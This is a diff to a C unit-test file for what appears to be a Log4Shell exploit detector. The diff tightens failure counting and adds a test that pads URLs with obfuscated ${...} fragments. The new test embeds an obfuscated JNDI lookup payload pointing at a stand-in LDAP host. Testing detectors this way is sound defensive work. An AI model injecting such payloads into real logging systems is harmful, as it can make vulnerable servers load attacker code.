@@ -139,6 +139,7 @@ static struct ct_verdict judge(const struct ct_field *fields, size_t n, double *
 }
 
 static double worst;
+static unsigned hidden;
 
 static void hides_nothing(const char *name, ct_str poison)
 {
@@ -151,8 +152,9 @@ static void hides_nothing(const char *name, ct_str poison)
     for (unsigned i = 0; i < 2; i++) {
         struct ct_field ordered[2] = {fields[orders[i][0]], fields[orders[i][1]]};
         v = judge(ordered, 2, &ms);
-        if (v.grade != CT_GRADE_EXPLOIT || v.certainty != CT_CERTAIN)
-            print_error("FAIL %s: a live lookup %s it is %s, %s", name, i ? "before" : "behind", ct_grade_name(v.grade), ct_certainty_name(v.certainty));
+        if (v.grade == CT_GRADE_EXPLOIT && v.certainty == CT_CERTAIN) continue;
+        hidden++;
+        print_error("FAIL %s: a live lookup %s it is %s, %s", name, i ? "before" : "behind", ct_grade_name(v.grade), ct_certainty_name(v.certainty));
     }
 }
 
@@ -165,6 +167,7 @@ static void poison_hides_nothing(void **state)
     }
     hides_nothing("distinct base64", distinct_base64());
     print_message("worst: %.1f ms\n", worst);
+    assert_int_equal(hidden, 0);
 }
 
 /* As many fields as a record may have, each of them poison, the live one last. */
@@ -180,7 +183,34 @@ static void many_poisoned_fields(void **state)
         fields[CT_FIELDS_MAX - 1].value = LIVE;
         struct ct_verdict v = judge(fields, CT_FIELDS_MAX, &ms);
         print_message("%-28s %6.1f ms\n", poisons[i].name, ms);
-        if (v.grade != CT_GRADE_EXPLOIT) print_error("FAIL 64 times %s: %s, %s", poisons[i].name, ct_grade_name(v.grade), ct_certainty_name(v.certainty));
+        if (v.grade == CT_GRADE_EXPLOIT) continue;
+        hidden++;
+        print_error("FAIL 64 times %s: %s, %s", poisons[i].name, ct_grade_name(v.grade), ct_certainty_name(v.certainty));
+    }
+    assert_int_equal(hidden, 0);
+}
+
+/* Parameters by the thousand, the live one among the last. Where each is made to cost, its share may be too small to be sure;
+ * then that is said. */
+static void many_poisoned_parameters(void **state)
+{
+    (void)state;
+    static const struct { const char *part; bool dear; } rows[] = {
+        {"a=${a}&", false}, {"%24%7Ba%7D=1&", false}, {"a=${sys:a}%25${a[%252524${a&", true}, {"a=%24}${sys:a}\\\\\\x&amp;amp;", true},
+        {"${env:&#\\\"&", true}, {"a=${event:Message}%252524x%24${lower:&", true},
+    };
+    for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
+        struct ct_buf b;
+        double ms;
+        ct_arena_clear(texts);
+        ct_buf_init(&b, texts, FIELD);
+        ct_buf_text(&b, "/?");
+        while (b.n + 200 < FIELD) ct_buf_text(&b, rows[i].part);
+        ct_buf_text(&b, "&x=%24%7B${lower:j}ndi${::-:}ldap://h.example/a}&y=1");
+        struct ct_field field = {CT_STR("url.original"), ct_buf_view(&b)};
+        struct ct_verdict v = judge(&field, 1, &ms);
+        print_message("%-28s %6.1f ms  %s, %s\n", rows[i].part, ms, ct_grade_name(v.grade), ct_certainty_name(v.certainty));
+        if (v.grade != CT_GRADE_EXPLOIT) assert_true(rows[i].dear && v.certainty == CT_UNKNOWN && (v.traits & CT_TRAIT_BUDGET));
     }
 }
 
@@ -201,7 +231,8 @@ static void budgets_hold(void **state)
         struct ct_forms forms;
         const struct ct_form *form;
         size_t n = 0;
-        assert_int_equal(ct_forms_start(&forms, line, text, true), CT_OK);
+        uint64_t left = CT_FORMS_WORK_MAX;
+        assert_int_equal(ct_forms_start(&forms, line, text, &left), CT_OK);
         for (;; n++) {
             ct_err e = ct_forms_next(&forms, &form);
             if (e == CT_ERR_NOMEM) break;
@@ -299,7 +330,7 @@ static void reads_nothing_behind_the_end(void **state)
 int main(void)
 {
     const struct CMUnitTest tests[] = {
-        cmocka_unit_test(poison_hides_nothing), cmocka_unit_test(many_poisoned_fields), cmocka_unit_test(budgets_hold),
+        cmocka_unit_test(poison_hides_nothing), cmocka_unit_test(many_poisoned_fields), cmocka_unit_test(many_poisoned_parameters), cmocka_unit_test(budgets_hold),
         cmocka_unit_test(memory_runs_out),      cmocka_unit_test(small_arenas),         cmocka_unit_test(reads_nothing_behind_the_end),
     };
     return cmocka_run_group_tests(tests, set_up, tear_down);
